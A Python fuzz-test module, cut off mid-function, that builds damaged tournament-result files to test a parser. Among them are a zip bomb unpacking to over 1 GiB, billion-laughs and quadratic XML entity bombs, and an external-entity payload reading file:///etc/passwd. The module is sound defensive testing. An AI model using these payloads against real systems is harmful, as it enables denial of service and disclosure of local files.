"""Hostile inbox files for the fuzz harness (``scripts/fuzz.py``, ``tests/test_fuzz.py``).

    from scripts._hostile import hostile_files
    for name, data, kind in hostile_files(2000, seed=0):
        ...

Every file starts from a real result file under ``fixtures/`` (the goldens ``*.json`` and the
``SOURCES.txt`` notes left out) and is damaged in one way, its *kind* (:data:`KINDS`): flipped
bytes, a cut, rows duplicated, deleted or swapped, odd encodings, huge or nested cells, numbers
no result has, spreadsheets that unpack or repeat without end, XML entity bombs, formulas,
markup and control characters in names, dates outside any plausible span, a player twice in
one event, files with no events, odd file names around valid content, and files dropped twice
under one name (a different file, or a damaged copy of a good one: the second arrives
:data:`REDROP_GAP` files later, so in a later ingest batch).

Names are bytes (a file name on disk need not be UTF-8). Generation is deterministic: the same
``count`` and ``seed`` give the same files; each file draws from its own ``random.Random``
seeded by ``seed`` and its position, so the kinds are spread evenly (round robin) and no kind
runs out however many files are asked for.
"""

from __future__ import annotations

import csv
import functools
import html
import io
import re
import zipfile
from collections import deque
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from random import Random

from scripts._zips import ZIP_TIME, rezip

__all__ = ["KINDS", "REDROP_GAP", "base_files", "hostile_files"]

ROOT = Path(__file__).resolve().parents[1]
FIXTURES = ROOT / "fixtures"


def _fixture_files() -> list[Path]:
    """Every file under fixtures/ but the field corpus (fixtures/field: files of every format,
    measured by tests/test_field_corpus.py)."""
    return [p for p in FIXTURES.rglob("*") if p.relative_to(FIXTURES).parts[0] != "field"]


REDROP_GAP = 256
"""Files between the two drops of one name (same-name files, damaged re-drops): more than a
batch of ``scripts/fuzz.py`` (200), so the second drop comes in a later ingest run."""

CSV_TEMPLATE_COLUMNS = ("event", "date", "kind", "scoring", "boards", "unit", "place", "player")
"""The template's required header (parsers/csv_template.py, REQUIRED_COLUMNS)."""

_BOMB_BYTES = 1_150_000_000
"""What a zip bomb's one entry unpacks to: more than 1 GiB."""


# --- base material --------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class Base:
    """One fixture file and what the generators need to know of it."""

    path: Path
    data: bytes
    text: str | None
    """The decoded text (None for binary files: xlsx, ods, xls)."""
    encoding: str
    names: tuple[str, ...]
    """Player names the parser reads from it that appear literally in ``text`` (or in the
    cells of an xlsx); empty if it does not parse."""
    parses: bool
    """The unmodified file parses (it is a valid result file, a base for odd names)."""

    @property
    def ext(self) -> str:
        return self.path.suffix.lower()

    @property
    def stem(self) -> str:
        return re.sub(r"[^A-Za-z0-9_-]+", "-", self.path.stem)[:40]

    @property
    def is_html(self) -> bool:
        return self.text is not None and "<tr" in self.text.lower()

    @property
    def is_xml(self) -> bool:
        return self.text is not None and self.text.lstrip("\ufeff \r\n\t").startswith("<?xml")

    @property
    def is_csv_template(self) -> bool:
        if self.text is None:
            return False
        first = next((line for line in self.text.splitlines() if line.strip()), "")
        delimiter = ";" if first.count(";") > first.count(",") else ","
        header = {c.strip().lower() for c in first.split(delimiter)}
        return set(CSV_TEMPLATE_COLUMNS) <= header


def _decode(data: bytes) -> tuple[str | None, str]:
    if data[:2] == b"PK" or data[:8] == b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1":
        return None, ""
    for encoding in ("utf-8-sig", "cp1250", "latin-1"):
        try:
            return data.decode(encoding), encoding
        except UnicodeDecodeError:
            continue
    return None, ""  # latin-1 decodes anything: not reached


def _parsed_names(data: bytes, path: Path) -> tuple[bool, list[str]]:
    """Whether the file parses, and the player names it holds (longest first)."""
    try:
        from parsers import parse_bytes

        result = parse_bytes(data, source=str(path))
    except Exception:  # noqa: BLE001 - a base that does not parse still serves the others
        return False, []
    names = {p.name for ev in result.events for u in ev.units for p in u.players}
    return True, sorted((n for n in names if len(n) >= 3), key=lambda n: (-len(n), n))


def _xlsx_strings(data: bytes) -> str:
    """The text of an xlsx's shared strings and inline strings (where names live)."""
    try:
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            return "\n".join(
                archive.read(n).decode("utf-8", "replace") for n in archive.namelist()
                if n.endswith(".xml") and ("sharedStrings" in n or "worksheets/" in n))
    except (zipfile.BadZipFile, OSError, ValueError):
        return ""


@functools.cache
def base_files() -> tuple[Base, ...]:
    """Every fixture result file, read once (goldens and notes left out), in path order."""
    bases = []
    for path in sorted(_fixture_files()):
        if not path.is_file() or path.name == "SOURCES.txt" or path.suffix == ".json":
            continue
        data = path.read_bytes()
        text, encoding = _decode(data)
        parses, names = _parsed_names(data, path)
        if text is not None:
            names = [n for n in names if n in text]
        elif path.suffix.lower() == ".xlsx":
            strings = _xlsx_strings(data)
            names = [n for n in names if html.escape(n, quote=False) in strings]
        else:
            names = []
        bases.append(Base(path, data, text, encoding, tuple(names), parses))
    return tuple(bases)


def _pool(test: Callable[[Base], bool]) -> list[Base]:
    pool = [b for b in base_files() if test(b)]
    if not pool:
        raise RuntimeError("no fixture file fits this kind of damage")
    return pool


@functools.cache
def _pools() -> dict[str, list[Base]]:
    return {
        "any": _pool(lambda b: True),
        "text": _pool(lambda b: b.text is not None),
        "rows": _pool(lambda b: b.text is not None or b.ext == ".xlsx"),
        "good": _pool(lambda b: b.parses),
        "good_text": _pool(lambda b: b.parses and b.text is not None and len(b.names) >= 2),
        "names": _pool(lambda b: len(b.names) >= 2),
        "template": _pool(lambda b: b.is_csv_template and b.parses),
        "html_names": _pool(lambda b: b.is_html and len(b.names) >= 2),
        "xml_names": _pool(lambda b: b.is_xml and len(b.names) >= 2),
        "xlsx": _pool(lambda b: b.ext == ".xlsx" and b.parses),
    }


def _pick(rng: Random, pool: str) -> Base:
    return rng.choice(_pools()[pool])


# --- helpers --------------------------------------------------------------------------------


def _encode(base: Base, text: str) -> bytes:
    """``text`` in the base's encoding; characters it cannot hold as character references in
    markup, otherwise the whole file in UTF-8."""
    encoding = base.encoding or "utf-8"
    if encoding == "utf-8-sig" and not base.data.startswith(b"\xef\xbb\xbf"):
        encoding = "utf-8"
    try:
        return text.encode(encoding)
    except UnicodeEncodeError:
        if base.is_html or base.is_xml:
            return text.encode(encoding, "xmlcharrefreplace")
        return text.encode("utf-8")


def _escape(base: Base, value: str) -> str:
    """``value`` as text inside the base's markup (as is for CSV and plain text)."""
    if base.is_html or base.is_xml:
        return html.escape(value, quote=True)
    return value


_ROW = re.compile(r"(?is)<tr\b.*?</tr\s*>")
_CELL = re.compile(r"(?is)<t[dh]\b.*?</t[dh]\s*>")


def _spans(base: Base, text: str) -> list[tuple[int, int]]:
    """The rows of a text file as spans: ``<tr>`` elements of a page, lines otherwise."""
    if base.is_html:
        spans = [m.span() for m in _ROW.finditer(text)]
        if len(spans) >= 2:
            return spans
    spans, start = [], 0
    for line in text.splitlines(keepends=True):
        spans.append((start, start + len(line)))
        start += len(line)
    return spans


def _edit_rows(base: Base, rng: Random, edit: Callable[[list[str], Random], list[str]]) -> bytes:
    """Apply ``edit`` to the rows of a text file, or of the first sheet of an xlsx."""
    if base.text is None:
        return _edit_xlsx_rows(base, rng, edit)
    text = base.text
    spans = _spans(base, text)
    rows = [text[a:b] for a, b in spans]
    edited = edit(rows, rng)
    head = text[: spans[0][0]] if spans else text
    tail = text[spans[-1][1]:] if spans else ""
    gaps = [text[spans[i][1]:spans[i + 1][0]] for i in range(len(spans) - 1)]
    body = "".join(row + (gaps[i] if i < len(gaps) else "") for i, row in enumerate(edited))
    return _encode(base, head + body + tail)


def _edit_xlsx_rows(base: Base, rng: Random,
                    edit: Callable[[list[str], Random], list[str]]) -> bytes:
    """Row edits of an xlsx: rows stand for their cell values (tab-joined) and go back so."""
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(base.data))
    sheet = book.worksheets[rng.randrange(len(book.worksheets))]
    rows = ["\t".join("" if v is None else str(v) for v in row)
            for row in sheet.iter_rows(values_only=True)]
    edited = edit(rows, rng)
    for merged in list(sheet.merged_cells.ranges):
        sheet.unmerge_cells(str(merged))
    sheet.delete_rows(1, sheet.max_row)
    for r, row in enumerate(edited, 1):
        for c, value in enumerate(row.split("\t"), 1):
            sheet.cell(r, c, _number_or_text(value))
    return _save_xlsx(book)


def _number_or_text(value: str) -> object:
    if value == "":
        return None
    try:
        return int(value)
    except ValueError:
        pass
    try:
        return float(value)
    except ValueError:
        return value


def _save_xlsx(book: object) -> bytes:
    out = io.BytesIO()
    book.save(out)  # type: ignore[attr-defined]
    return out.getvalue()


def _some(rng: Random, n: int, most: int) -> list[int]:
    """1..``most`` distinct indexes below ``n``, sorted."""
    return sorted(rng.sample(range(n), min(n, rng.randint(1, most)))) if n else []


# --- templates (CSV): a table of cells by column name ---------------------------------------


def _template(base: Base) -> tuple[str, list[str], list[list[str]]]:
    assert base.text is not None
    first = next(line for line in base.text.splitlines() if line.strip())
    delimiter = ";" if first.count(";") > first.count(",") else ","
    rows = [r for r in csv.reader(io.StringIO(base.text.lstrip("\ufeff")), delimiter=delimiter)
            if any(c.strip() for c in r)]
    header = [h.strip().lower() for h in rows[0]]
    return delimiter, header, rows[1:]


def _write_template(delimiter: str, header: list[str], rows: list[list[str]],
                    encoding: str = "utf-8") -> bytes:
    out = io.StringIO(newline="")
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue().encode(encoding, "replace")


def _set_template(base: Base, rng: Random, column: str, values: Callable[[Random], str],
                  *, share: float = 0.3, by_unit: bool = False, only: int = 0) -> bytes:
    """A CSV template with some cells of ``column`` replaced (every row of a unit alike when
    ``by_unit``: places and scores must agree within a unit); ``only``: exactly that many
    cells (huge values)."""
    delimiter, header, rows = _template(base)
    if column not in header:
        header.append(column)
        for row in rows:
            row.extend([""] * (len(header) - len(row)))
    i = header.index(column)
    for row in rows:
        row.extend([""] * (len(header) - len(row)))
    if only:
        for r in rng.sample(range(len(rows)), min(only, len(rows))):
            rows[r][i] = values(rng)
        return _write_template(delimiter, header, rows)
    unit = header.index("unit")
    chosen: dict[tuple[str, ...], str] = {}
    for r, row in enumerate(rows):
        key = (row[0], row[1], row[2], row[unit]) if by_unit else (str(r),)
        if key not in chosen:
            chosen[key] = values(rng) if rng.random() < share else ""
        if chosen[key]:
            row[i] = chosen[key]
    if not any(chosen.values()) and rows:  # at least one cell
        rows[rng.randrange(len(rows))][i] = values(rng)
    return _write_template(delimiter, header, rows)


# --- names: one hostile value in place of real names ----------------------------------------


def _with_names(base: Base, rng: Random, value: Callable[[Random, str], str], *,
                most: int = 3, raw_markup: bool = False, once: bool = False) -> bytes:
    """The base with up to ``most`` of its players' names replaced by ``value(rng, name)``
    (``once``: one name, where it is first written)."""
    if once:
        most = 1
    chosen = rng.sample(base.names, min(len(base.names), rng.randint(1, most)))
    if base.text is None:  # an xlsx: the cells holding the name
        import openpyxl

        book = openpyxl.load_workbook(io.BytesIO(base.data))
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if isinstance(cell.value, str):
                        for name in chosen:
                            if isinstance(cell.value, str) and name in cell.value:
                                # set past openpyxl's check: control characters go in as they are
                                cell._value = cell.value.replace(name, value(rng, name))
                                cell.data_type = "s"
        return _save_xlsx(book)
    text = base.text
    for name in chosen:
        new = value(rng, name)
        text = text.replace(name, new if raw_markup else _escape(base, new), 1 if once else -1)
    return _encode(base, text)


def _named(base: Base, rng: Random, value: Callable[[Random, str], str], *,
           raw_markup: bool = False, once: bool = False) -> bytes:
    """Names replaced in a CSV template through its ``player`` column, elsewhere in place
    (``once``: one cell only)."""
    if base.is_csv_template and rng.random() < 0.5:
        return _set_template(base, rng, "player", lambda r: value(r, ""), share=0.2,
                             only=1 if once else 0)
    return _with_names(base, rng, value, raw_markup=raw_markup, once=once)


def _names_base(rng: Random) -> Base:
    return _pick(rng, rng.choice(("template", "html_names", "xml_names", "names", "names")))


# --- the kinds ------------------------------------------------------------------------------

Made = tuple[str, bytes]
"""(file name suffix, content) of one generated file."""


def k_byte_flip(rng: Random) -> Made:
    base = _pick(rng, "any")
    data = bytearray(base.data)
    for _ in range(rng.choice((1, 1, 2, 3, 8, 40))):
        at = rng.randrange(len(data))
        data[at] = rng.choice((data[at] ^ (1 << rng.randrange(8)), rng.randrange(256)))
    return base.stem + base.ext, bytes(data)


def k_truncation(rng: Random) -> Made:
    base = _pick(rng, "any")
    cut = rng.choice((rng.randrange(1, len(base.data)), rng.randrange(len(base.data) // 2,
                                                                       len(base.data)), 0))
    return base.stem + base.ext, base.data[:cut]


def _duplicate(rows: list[str], rng: Random) -> list[str]:
    out = list(rows)
    for i in reversed(_some(rng, len(rows), 4)):
        for _ in range(rng.choice((1, 1, 2, 5))):
            where = i + 1 if rng.random() < 0.7 else rng.randrange(len(out) + 1)
            out.insert(where, rows[i])
    return out


def _delete(rows: list[str], rng: Random) -> list[str]:
    start = 1 if len(rows) > 3 and rng.random() < 0.9 else 0  # mostly keep a header
    doomed = {start + i for i in _some(rng, len(rows) - start, max(1, (len(rows) - start) // 3))}
    return [row for i, row in enumerate(rows) if i not in doomed]


def k_duplicated_rows(rng: Random) -> Made:
    base = _pick(rng, "rows")
    return base.stem + base.ext, _edit_rows(base, rng, _duplicate)


def k_deleted_rows(rng: Random) -> Made:
    base = _pick(rng, "rows")
    return base.stem + base.ext, _edit_rows(base, rng, _delete)


def _swap_cells(cells: list[str], i: int, j: int) -> list[str]:
    if max(i, j) < len(cells):
        cells = list(cells)
        cells[i], cells[j] = cells[j], cells[i]
    return cells


def k_swapped_columns(rng: Random) -> Made:
    base = _pick(rng, "rows")
    i, j = rng.sample(range(rng.choice((3, 6, 10))), 2)
    header_too = rng.random() < 0.5
    if base.is_csv_template or base.ext in (".csv", ".tsv"):
        assert base.text is not None
        first = next(line for line in base.text.splitlines() if line.strip())
        delimiter = max((";", ",", "\t"), key=first.count)
        rows = list(csv.reader(io.StringIO(base.text.lstrip("\ufeff")), delimiter=delimiter))
        rows = [r if (k == 0 and not header_too) else _swap_cells(r, i, j)
                for k, r in enumerate(rows)]
        out = io.StringIO(newline="")
        csv.writer(out, delimiter=delimiter, lineterminator="\n").writerows(rows)
        return base.stem + base.ext, _encode(base, out.getvalue())
    if base.is_html:
        def swap_row(m: re.Match[str]) -> str:
            row = m.group(0)
            cells = list(_CELL.finditer(row))
            if max(i, j) >= len(cells):
                return row
            a, b = sorted((cells[i], cells[j]), key=lambda c: c.start())
            return (row[:a.start()] + b.group(0) + row[a.end():b.start()] + a.group(0)
                    + row[b.end():])
        assert base.text is not None
        return base.stem + base.ext, _encode(base, _ROW.sub(swap_row, base.text))

    def swap_tokens(rows: list[str], _rng: Random) -> list[str]:
        out = []
        for row in rows:
            sep = "\t" if "\t" in row else None
            parts = re.split(r"(\t)" if sep else r"(\s+)", row)
            tokens = parts[0::2]
            tokens = _swap_cells(tokens, i, j)
            parts[0::2] = tokens
            out.append("".join(parts))
        return out
    return base.stem + base.ext, _edit_rows(base, rng, swap_tokens)


def k_odd_encoding(rng: Random) -> Made:
    base = _pick(rng, "text")
    assert base.text is not None
    text = base.text
    how = rng.choice(("utf-16", "utf-16-le", "utf-16-be", "utf-32", "cp1250", "latin-1",
                      "utf-8-sig", "bom-cp1250", "mixed", "double-utf-8", "cp1251",
                      "utf-8-bom-twice", "utf-16-odd-byte"))
    if how in ("utf-16", "utf-32", "utf-16-le", "utf-16-be", "cp1250", "latin-1", "cp1251"):
        data = text.encode(how, "replace")
    elif how == "utf-8-sig":
        data = text.encode("utf-8-sig")
    elif how == "bom-cp1250":  # a UTF-8 byte-order mark before windows-1250 bytes
        data = b"\xef\xbb\xbf" + text.encode("cp1250", "replace")
    elif how == "mixed":  # one half UTF-8, the other windows-1250
        half = rng.randrange(len(text) + 1)
        first, second = ("utf-8", "cp1250") if rng.random() < 0.5 else ("cp1250", "utf-8")
        data = text[:half].encode(first, "replace") + text[half:].encode(second, "replace")
    elif how == "double-utf-8":  # UTF-8 read as windows-1250 and written as UTF-8 again
        data = text.encode("utf-8").decode("cp1250", "replace").encode("utf-8")
    elif how == "utf-8-bom-twice":
        data = b"\xef\xbb\xbf\xef\xbb\xbf" + text.encode("utf-8")
    else:  # UTF-16 with one byte missing in the middle
        raw = text.encode("utf-16")
        at = rng.randrange(2, max(3, len(raw)))
        data = raw[:at] + raw[at + 1:]
    return f"{base.stem}.{how}{base.ext}", data


def _huge(rng: Random, size: int) -> str:
    pattern = rng.choice(("A", "Kowalski ", "Żółć ", "x" * 7 + " ", "Jan Nowak-"))
    return (pattern * (size // len(pattern) + 1))[:size]


def k_huge_cell(rng: Random) -> Made:
    how = rng.choice(("name-1mb", "csv-field", "csv-field", "name-1mb"))
    if how == "csv-field":  # one CSV field beyond the csv module's 131072 characters
        base = _pick(rng, "template")
        column = rng.choice(("player", "event", "organiser", "club", "score"))
        size = rng.choice((131_073, 140_000, 500_000, 1_048_576))
        return (base.stem + ".csv",
                _set_template(base, rng, column, lambda r: _huge(r, size), only=1))
    base = _names_base(rng)
    size = rng.randint(1_000_000, 1_100_000)
    return base.stem + base.ext, _named(base, rng, lambda r, _n: _huge(r, size), once=True)


_BAD_NUMBERS = ("NaN", "nan", "inf", "-inf", "Infinity", "-1", "-5", "0", "-0", "10000000",
                "1e7", "1e308", "1e309", "-1e309", "99999999999999999999", "1,5", "3.5",
                "1-99999999", "0-0", "-3--1", "١", "½", "1" * 400)


def k_bad_numbers(rng: Random) -> Made:
    base = _pick(rng, rng.choice(("template", "template", "xml_names", "html_names")))
    value = lambda r: r.choice(_BAD_NUMBERS)
    if base.is_csv_template:
        column = rng.choice(("place", "score", "place"))
        return (base.stem + ".csv",
                _set_template(base, rng, column, value, share=0.3, by_unit=True))
    assert base.text is not None
    text = base.text
    if base.is_xml:
        pattern = r"(<(?:PLACE|POSITION|SCORE|TOTAL_SCORE|MATCH_POINTS)>)([^<]*)(<)"
        text = re.sub(pattern, lambda m: (m.group(1) + value(rng) + m.group(3)
                                          if rng.random() < 0.4 else m.group(0)), text)
        text = re.sub(r'(\b(?:rank|rating|result|handicap|komi|numberOfRounds)=")([^"]*)(")',
                      lambda m: (m.group(1) + value(rng) + m.group(3)
                                 if rng.random() < 0.3 else m.group(0)), text)
    else:  # the first short numeric cell of rows: places, and other numbers in cells
        text = re.sub(r"(<td[^>]*>)(\s*[\d.,%-]{1,8}\s*)(</td>)",
                      lambda m: (m.group(1) + value(rng) + m.group(3)
                                 if rng.random() < 0.25 else m.group(0)), text)
    return base.stem + base.ext, _encode(base, text)


def _page(rng: Random, cell: str) -> str:
    """A results page (a generic table) with ``cell`` in one of its name cells."""
    rows = [f"<tr><td>{p}</td><td>{rng.choice(('Jan Nowak', 'Anna Kos', 'Piotr Lis'))} - "
            f"{rng.choice(('Ewa Bąk', 'Adam Mróz', 'Olga Wrona'))}</td><td>{60 - p * 2}.5</td>"
            "</tr>" for p in range(1, rng.randint(4, 9))]
    at = rng.randrange(len(rows))
    rows[at] = f"<tr><td>{at + 1}</td><td>{cell}</td><td>50.0</td></tr>"
    return ("<html><head><meta charset=\"utf-8\"><title>Turniej par</title></head><body>"
            "<h1>Klub Brydżowy Test - turniej par, 12 marca 2013</h1>"
            "<table><tr><th>Miejsce</th><th>Para</th><th>Wynik %</th></tr>"
            + "".join(rows) + "</table></body></html>")


def _into_html(rng: Random, cell: str) -> Made:
    """``cell`` (raw markup) in a name cell of a real page, or of a generic page."""
    if rng.random() < 0.5:
        base = _pick(rng, "html_names")
        name = rng.choice(base.names)
        assert base.text is not None
        text = base.text.replace(name, cell, 1)
        return base.stem + base.ext, _encode(base, text)
    return "table.html", _page(rng, cell).encode("utf-8")


def k_nested_tables(rng: Random) -> Made:
    depth = rng.randint(19_000, 21_000)
    closed = rng.random() < 0.5
    opening = rng.choice(("<table><tr><td>", "<table><tbody><tr><td>", "<table><tr><th>"))
    inner = "Jan Nowak - Anna Kos" if rng.random() < 0.5 else ""
    closing = {"<table><tr><td>": "</td></tr></table>",
               "<table><tbody><tr><td>": "</td></tr></tbody></table>",
               "<table><tr><th>": "</th></tr></table>"}[opening]
    cell = opening * depth + inner + (closing * depth if closed else "")
    return _into_html(rng, cell)


def k_nested_bold(rng: Random) -> Made:
    tag = rng.choice(("b", "b", "i", "span", "font"))
    size = rng.randint(1_000_000, 1_100_000)
    closed = rng.random() < 0.5
    depth = size // ((len(tag) + 2) * (2 if closed else 1) + (1 if closed else 0))
    name = rng.choice(("Jan Nowak - Anna Kos", "", "Kowalski"))
    cell = f"<{tag}>" * depth + name + (f"</{tag}>" * depth if closed else "")
    return _into_html(rng, cell)


# --- spreadsheets ---------------------------------------------------------------------------


def _results_book(rng: Random) -> object:
    """A workbook with a results list in its first sheet (a real xlsx base, or made up)."""
    import openpyxl

    if rng.random() < 0.6:
        base = _pick(rng, "xlsx")
        return openpyxl.load_workbook(io.BytesIO(base.data))
    book = openpyxl.Workbook()
    sheet = book.active
    sheet["A1"] = "Turniej par - 12.03.2013"
    sheet.append([])
    sheet.append(["Miejsce", "Para", "Wynik"])
    for p in range(1, rng.randint(5, 12)):
        sheet.append([p, f"Gracz {p}A - Gracz {p}B", 65 - p * 1.5])
    return book


def k_xlsx_merges(rng: Random) -> Made:
    book = _results_book(rng)
    sheet = book.worksheets[0]  # type: ignore[attr-defined]
    whole = rng.random() < 0.5
    if whole:
        # openpyxl would create every covered cell: merge a small range, then widen it in
        # the sheet's XML to the whole sheet
        sheet.merge_cells("A1:B2")
        data = _save_xlsx(book)
        ref = rng.choice(("A1:XFD1048576", "A1:XFD1048576", "B3:XFD1048576", "A2:C1048576"))
        data = rezip(data, lambda n, c: c.replace(b'<mergeCell ref="A1:B2"/>',
                                                   f'<mergeCell ref="{ref}"/>'.encode())
                      if n.startswith("xl/worksheets/") else c)
        return "merged-whole-sheet.xlsx", data
    count = rng.choice((1_000, 1_000, 1_500))
    refs = []
    for k in range(count):
        row = 30 + 2 * k if rng.random() < 0.7 else rng.randint(1, 2000)
        col = rng.randint(1, 40)
        refs.append(f"{_column(col)}{row}:{_column(col + rng.randint(0, 3))}{row + 1}")
    sheet.merge_cells("A1:B2")
    data = _save_xlsx(book)
    cells = "".join(f'<mergeCell ref="{r}"/>' for r in ["A1:B2", *refs])
    data = rezip(data, lambda n, c: re.sub(rb'<mergeCells count="\d+">.*?</mergeCells>',
                                            f'<mergeCells count="{len(refs) + 1}">{cells}'
                                            "</mergeCells>".encode(), c, flags=re.DOTALL)
                  if n.startswith("xl/worksheets/") else c)
    return f"merged-{count}.xlsx", data


def _column(n: int) -> str:
    out = ""
    while n:
        n, r = divmod(n - 1, 26)
        out = chr(65 + r) + out
    return out


_ODS_NS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"')
_ODS_MANIFEST = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<manifest:manifest xmlns:manifest='
    '"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
    '<manifest:file-entry manifest:full-path="/" manifest:media-type='
    '"application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry '
    'manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>')


def _ods_cell(value: object, repeat: int = 1) -> str:
    rep = f' table:number-columns-repeated="{repeat}"' if repeat > 1 else ""
    if value is None:
        return f"<table:table-cell{rep}/>"
    if isinstance(value, int | float):
        return (f'<table:table-cell office:value-type="float" office:value="{value}"{rep}>'
                f"<text:p>{value}</text:p></table:table-cell>")
    return (f'<table:table-cell office:value-type="string"{rep}><text:p>'
            f"{html.escape(str(value))}</text:p></table:table-cell>")


def _ods_row(cells: str, repeat: int = 1) -> str:
    rep = f' table:number-rows-repeated="{repeat}"' if repeat > 1 else ""
    return f"<table:table-row{rep}>{cells}</table:table-row>"


def _ods(content_rows: str, sheet: str = "Wyniki") -> bytes:
    content = (f'<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content {_ODS_NS}>'
               f'<office:body><office:spreadsheet><table:table table:name="{sheet}">'
               f"{content_rows}</table:table></office:spreadsheet></office:body>"
               "</office:document-content>")
    return _zip([("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"),
                 ("META-INF/manifest.xml", _ODS_MANIFEST.encode()),
                 ("content.xml", content.encode("utf-8"))])


def _zip(entries: list[tuple[str, bytes]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries:
            info = zipfile.ZipInfo(name, ZIP_TIME)
            info.compress_type = zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
            archive.writestr(info, content)
    return out.getvalue()


def k_ods_repeated(rng: Random) -> Made:
    rows = [_ods_row(_ods_cell("Turniej par - 12.03.2013")), _ods_row(_ods_cell(None)),
            _ods_row("".join(_ods_cell(h) for h in ("Miejsce", "Para", "Wynik")))]
    players = [_ods_row(_ods_cell(p) + _ods_cell(f"Gracz {p}A - Gracz {p}B")
                        + _ods_cell(round(65 - p * 1.7, 2)))
               for p in range(1, rng.randint(5, 12))]
    how = rng.choice(("empty-rows-between", "player-row-repeated", "wide-columns",
                      "rows-and-columns", "trailing-like-libreoffice", "repeated-header"))
    million = rng.choice((1_000_000, 1_000_000, 1_048_576, 999_999))
    wide = rng.choice((1_024, 16_384, 1_000_000))
    if how == "empty-rows-between":
        at = rng.randrange(len(players))
        players.insert(at, _ods_row(_ods_cell(None, wide), million))
    elif how == "player-row-repeated":
        at = rng.randrange(len(players))
        players[at] = players[at].replace("<table:table-row>",
                                          f'<table:table-row table:number-rows-repeated="'
                                          f'{million}">', 1)
    elif how == "wide-columns":
        players = [r.replace("</table:table-row>",
                             _ods_cell(rng.choice((None, "x", 1)), wide) + "</table:table-row>")
                   for r in players]
    elif how == "rows-and-columns":
        players.append(_ods_row(_ods_cell("x", wide), million))
    elif how == "trailing-like-libreoffice":
        players.append(_ods_row(_ods_cell(None, wide), million))
    else:
        rows[2] = rows[2].replace("<table:table-row>", f'<table:table-row '
                                  f'table:number-rows-repeated="{million}">', 1)
    return f"repeated-{how}.ods", _ods("".join(rows + players))


@functools.cache
def _bomb(template: str) -> bytes:
    """A container whose one entry unpacks to more than 1 GiB (built once per process)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        if template == "xlsx":
            small = _save_xlsx(_results_book(Random(0)))
            with zipfile.ZipFile(io.BytesIO(small)) as source:
                for info in source.infolist():
                    if info.filename != "xl/worksheets/sheet1.xml":
                        archive.writestr(zipfile.ZipInfo(info.filename, ZIP_TIME),
                                         source.read(info.filename))
            head = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet '
                    b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                    b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Turniej</t></is>'
                    b"</c></row>")
            tail = b"</sheetData></worksheet>"
            name = "xl/worksheets/sheet1.xml"
        else:
            info = zipfile.ZipInfo("mimetype", ZIP_TIME)
            archive.writestr(info, b"application/vnd.oasis.opendocument.spreadsheet",
                             compress_type=zipfile.ZIP_STORED)
            archive.writestr(zipfile.ZipInfo("META-INF/manifest.xml", ZIP_TIME), _ODS_MANIFEST)
            head = (f'<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content '
                    f'{_ODS_NS}><office:body><office:spreadsheet><table:table '
                    f'table:name="Wyniki">').encode()
            tail = b"</table:table></office:spreadsheet></office:body></office:document-content>"
            name = "content.xml"
        chunk = b" " * (1 << 20)  # whitespace between elements: the XML stays well-formed
        info = zipfile.ZipInfo(name, ZIP_TIME)
        info.compress_type = zipfile.ZIP_DEFLATED
        # the fastest level: 2 s a GiB instead of 6, 4.5 MB instead of 1 MB (both far over any
        # bound's reach: the reader refuses by the size the directory declares)
        info._compresslevel = 1  # noqa: SLF001 - ZipFile.open takes no level for a ZipInfo
        with archive.open(info, "w", force_zip64=True) as entry:
            entry.write(head)
            for _ in range(_BOMB_BYTES // len(chunk) + 1):
                entry.write(chunk)
            entry.write(tail)
    return out.getvalue()


def k_zip_bomb(rng: Random) -> Made:
    template = rng.choice(("xlsx", "ods"))
    data = _bomb(template)
    # vary the bytes cheaply: one more small entry appended
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo(f"docProps/custom{rng.randrange(10**6)}.xml",
                                         ZIP_TIME),
                         f"<x>{rng.random()}</x>")
    return f"bomb.{template}", out.getvalue()


def k_xml_bomb(rng: Random) -> Made:
    base = _pick(rng, "xml_names")
    assert base.text is not None
    text = base.text
    root = re.search(r"<([A-Za-z_][\w.-]*)[\s>]", text[text.index("?>") + 2:]
                     if "?>" in text else text)
    root_name = root.group(1) if root else "EVENT"
    how = rng.choice(("laughs", "laughs", "quadratic", "external", "parameter"))
    if how == "laughs":
        depth, fan = rng.randint(8, 10), rng.randint(8, 12)
        entities = ['<!ENTITY lol0 "lol">'] + [
            f'<!ENTITY lol{k} "{f"&lol{k - 1};" * fan}">' for k in range(1, depth + 1)]
        ref = f"&lol{depth};"
    elif how == "quadratic":
        entities = [f'<!ENTITY big "{"A" * rng.randint(40_000, 60_000)}">']
        ref = "&big;" * rng.randint(20_000, 40_000)
    elif how == "external":
        target = rng.choice(("file:///etc/passwd", "file:///dev/zero", "http://127.0.0.1:9/x"))
        entities = [f'<!ENTITY ext SYSTEM "{target}">']
        ref = "&ext;"
    else:
        entities = ['<!ENTITY % p0 "x">'] + [
            f'<!ENTITY % p{k} "%p{k - 1};%p{k - 1};%p{k - 1};%p{k - 1};">' for k in range(1, 30)]
